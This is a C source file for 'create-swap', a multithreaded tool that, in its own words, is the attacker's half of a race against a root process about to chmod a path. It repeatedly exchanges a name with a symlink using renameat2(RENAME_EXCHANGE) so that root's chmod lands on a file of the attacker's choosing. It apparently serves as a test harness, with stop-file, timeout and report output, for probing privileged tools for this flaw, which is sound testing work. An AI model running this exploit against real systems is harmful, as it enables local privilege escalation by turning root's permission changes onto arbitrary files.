/* create-swap: the attacker's half of a "swap the name root is about to
 * chmod" race.  For each pair NAME/ALT (ALT a symlink to a file the
 * attacker wants chmodded), it exchanges the two names with
 * renameat2(RENAME_EXCHANGE) and exchanges them back, over and over (one
 * thread per pair, so that NAME is the symlink about half of the time),
 * while whatever root made or found at NAME sits at ALT in between.
 *
 *   create-swap STOPFILE REPORT SECONDS MODE NAME ALT [MODE NAME ALT]...
 *
 * MODE is "keep" (NAME is the attacker's own directory: left in place) or
 * "remove" (NAME is what root creates: once in a while, when NAME is not
 * the symlink, it is removed, so that root creates it again at its next
 * update).  The loop ends when STOPFILE exists or after SECONDS, always
 * with every ALT back to the symlink.  Once the threads run it creates
 * REPORT.ready; at the end it writes REPORT:
 *
 *   rounds N                              (all pairs together)
 *   pair NAME exchanged COUNT removed COUNT
 *
 * Exit status 0 when it ran, 2 on a usage error, 1 when REPORT could not be
 * written.  Built static, so it runs in a busybox base.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_PAIRS 8

struct pair {
    const char *name, *alt;
    int remove;
    unsigned long exchanged, removed, rounds;
};

static const char *stop_file;
static time_t end_time;

static int exchange(struct pair *p) {
    if (renameat2(AT_FDCWD, p->name, AT_FDCWD, p->alt, RENAME_EXCHANGE) != 0) return -1;
    p->exchanged++;
    return 0;
}

static int is_symlink(const char *path) {
    struct stat st;
    return lstat(path, &st) == 0 && S_ISLNK(st.st_mode);
}

/* Puts the symlink back at ALT (after an odd number of exchanges). */
static void settle(struct pair *p) {
    for (int tries = 0; tries < 1000 && !is_symlink(p->alt) && is_symlink(p->name); tries++)
        if (exchange(p) != 0) usleep(1000);
}

/* One pair's loop, in its own thread. */
static void *race(void *arg) {
    struct pair *p = arg;
    for (;;) {
        /* Two exchanges: NAME is the symlink in between. */
        if (exchange(p) == 0) exchange(p);
        /* Now and then, let root create NAME again. */
        if (p->remove && p->rounds % 512 == 0 && !is_symlink(p->name) && is_symlink(p->alt)) {
            if (unlink(p->name) == 0 || (errno == EISDIR && rmdir(p->name) == 0)) p->removed++;
        }
        p->rounds++;
        if (p->rounds % 256 == 0 && (access(stop_file, F_OK) == 0 || time(NULL) >= end_time)) break;
    }
    settle(p);
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 7 || (argc - 4) % 3 != 0 || (argc - 4) / 3 > MAX_PAIRS) {
        fprintf(stderr, "usage: create-swap STOPFILE REPORT SECONDS MODE NAME ALT [MODE NAME ALT]...\n");
        return 2;
    }
    const char *stop = argv[1], *report = argv[2];
    long seconds = strtol(argv[3], NULL, 10);
    struct pair pairs[MAX_PAIRS];
    int n = (argc - 4) / 3;
    for (int i = 0; i < n; i++) {
        const char *mode = argv[4 + 3 * i];
        if (strcmp(mode, "keep") != 0 && strcmp(mode, "remove") != 0) {
            fprintf(stderr, "create-swap: MODE is keep or remove, not %s\n", mode);
            return 2;
        }
        pairs[i] = (struct pair){argv[5 + 3 * i], argv[6 + 3 * i], mode[0] == 'r', 0, 0, 0};
    }

    stop_file = stop;
    end_time = time(NULL) + seconds;
    pthread_t threads[MAX_PAIRS];
    for (int i = 0; i < n; i++) {
        if (pthread_create(&threads[i], NULL, race, &pairs[i]) != 0) {
            fprintf(stderr, "create-swap: cannot start a thread\n");
            return 1;
        }
    }
    char path[4200];
    snprintf(path, sizeof path, "%s.ready", report);
    int r = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (r >= 0) close(r);
    unsigned long rounds = 0;
    for (int i = 0; i < n; i++) {
        pthread_join(threads[i], NULL);
        rounds += pairs[i].rounds;
    }

    snprintf(path, sizeof path, "%s.tmp", report);
    FILE *out = fopen(path, "w");
    if (!out) {
        fprintf(stderr, "create-swap: %s: %s\n", path, strerror(errno));
        return 1;
    }
    fprintf(out, "rounds %lu\n", rounds);
    for (int i = 0; i < n; i++)
        fprintf(out, "pair %s exchanged %lu removed %lu\n", pairs[i].name, pairs[i].exchanged, pairs[i].removed);
    if (fclose(out) != 0 || rename(path, report) != 0) {
        fprintf(stderr, "create-swap: writing %s: %s\n", report, strerror(errno));
        return 1;
    }
    return 0;
}
